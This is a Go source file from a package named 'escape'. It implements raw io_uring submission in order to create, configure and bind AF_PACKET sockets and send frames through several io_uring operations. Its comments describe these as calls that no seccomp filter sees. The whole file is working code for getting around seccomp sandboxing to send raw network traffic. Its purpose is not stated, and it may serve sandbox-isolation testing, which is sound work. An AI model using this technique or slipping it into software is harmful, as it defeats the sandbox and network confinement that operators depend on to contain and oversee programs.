//go:build amd64 || arm64

package escape

import (
	"encoding/binary"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Operations of linux/io_uring.h.
const (
	opWritev   = 2
	opSendmsg  = 9
	opWrite    = 23
	opSend     = 26
	opSplice   = 30
	opSocket   = 45
	opCommand  = 46
	opSendZC   = 47
	opBind     = 56
	setsockCmd = 3 // SOCKET_URING_OP_SETSOCKOPT
)

// A uring is an io_uring of one entry: calls that no seccomp filter sees.
type uring struct {
	fd        int
	rings     []byte
	entries   []byte
	p         uringParams
	submitted uint32
}

// uringParams is struct io_uring_params.
type uringParams struct {
	sqEntries, cqEntries, flags, threadCPU, threadIdle, features, wqFD uint32
	_                                                                  [3]uint32
	sqHead, sqTail, sqMask, sqSize, sqFlags, sqDropped, sqArray, _     uint32
	_                                                                  uint64
	cqHead, cqTail, cqMask, cqSize, cqOverflow, cqes, cqFlags, _       uint32
	_                                                                  uint64
}

// An entry is a struct io_uring_sqe.
type entry struct {
	op, flags   uint8
	prio        uint16
	fd          int32
	off         uint64 // also: second address, command
	addr        uint64 // also: level and option
	n           uint32
	opFlags     uint32
	user        uint64
	buffer      uint16
	personality uint16
	last        uint32 // splice: from; send: length of the address; option: length
	addr3       uint64
	_           uint64
}

func newUring() (*uring, error) {
	u := &uring{}
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&u.p)), 0)
	if errno != 0 {
		return nil, errno
	}
	u.fd = int(fd)
	const sqes = 0x10000000 // IORING_OFF_SQES
	var err error
	size := max(int(u.p.sqArray)+4*int(u.p.sqEntries), int(u.p.cqes)+16*int(u.p.cqEntries))
	if u.rings, err = unix.Mmap(u.fd, 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
		return nil, err
	}
	u.entries, err = unix.Mmap(u.fd, sqes, 64*int(u.p.sqEntries), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	return u, err
}

func (u *uring) word(off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&u.rings[off])) }

// do submits an entry and waits for its result.
func (u *uring) do(e entry) (int, error) {
	*(*entry)(unsafe.Pointer(&u.entries[0])) = e
	*u.word(u.p.sqArray) = 0
	u.submitted++
	atomic.StoreUint32(u.word(u.p.sqTail), u.submitted)
	const getEvents = 1
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(u.fd), 1, 1, getEvents, 0, 0); errno != 0 {
		return -1, errno
	}
	at := u.p.cqes + 16*(*u.word(u.p.cqHead)&*u.word(u.p.cqMask))
	result := int32(binary.NativeEndian.Uint32(u.rings[at+8:]))
	atomic.StoreUint32(u.word(u.p.cqHead), atomic.LoadUint32(u.word(u.p.cqTail)))
	if result < 0 {
		return -1, unix.Errno(-result)
	}
	return int(result), nil
}

// byUring makes one call.
func byUring(e entry) (int, error) {
	u, err := newUring()
	must("io_uring", err)
	defer unix.Close(u.fd)
	return u.do(e)
}

// kept is what the kernel has addresses of, so that it is neither moved nor
// collected.
var kept []unsafe.Pointer

func address[T any](p *T) uint64 {
	kept = append(kept, unsafe.Pointer(p))
	return uint64(uintptr(unsafe.Pointer(p)))
}

func uringSocket(family, typ, protocol int) (int, error) {
	return byUring(entry{op: opSocket, fd: int32(family), off: uint64(typ), n: uint32(protocol)})
}

func uringSetsockopt[T any](fd, level, option int, value *T) error {
	_, err := byUring(entry{op: opCommand, fd: int32(fd), off: setsockCmd, addr: uint64(level) | uint64(option)<<32,
		last: uint32(unsafe.Sizeof(*value)), addr3: address(value)})
	return err
}

func uringBind(fd, ifindex int) error {
	to := &unix.RawSockaddrLinklayer{Family: unix.AF_PACKET, Protocol: networkOrder(unix.ETH_P_ALL), Ifindex: int32(ifindex)}
	_, err := byUring(entry{op: opBind, fd: int32(fd), addr: address(to), off: uint64(unsafe.Sizeof(*to))})
	return err
}

// uringWay is a way to send by one operation on bytes.
func uringWay(op uint8) way {
	return func(fd, _ int, frame []byte) error {
		_, err := byUring(entry{op: op, fd: int32(fd), addr: address(&frame[0]), n: uint32(len(frame))})
		return err
	}
}

func uringSendmsg(fd, _ int, frame []byte) error {
	iov := &unix.Iovec{Base: &frame[0], Len: uint64(len(frame))}
	m := &unix.Msghdr{Iov: iov, Iovlen: 1}
	_, err := byUring(entry{op: opSendmsg, fd: int32(fd), addr: address(m), n: 1})
	return err
}

func uringWritev(fd, _ int, frame []byte) error {
	iov := &unix.Iovec{Base: &frame[0], Len: uint64(len(frame))}
	_, err := byUring(entry{op: opWritev, fd: int32(fd), addr: address(iov), n: 1})
	return err
}

func uringSplice(fd, _ int, frame []byte) error {
	var p [2]int
	must("pipe", unix.Pipe(p[:]))
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	unix.Write(p[1], frame)
	const none = ^uint64(0) // no offset
	_, err := byUring(entry{op: opSplice, fd: int32(fd), off: none, addr: none, n: uint32(len(frame)), last: uint32(p[0])})
	return err
}
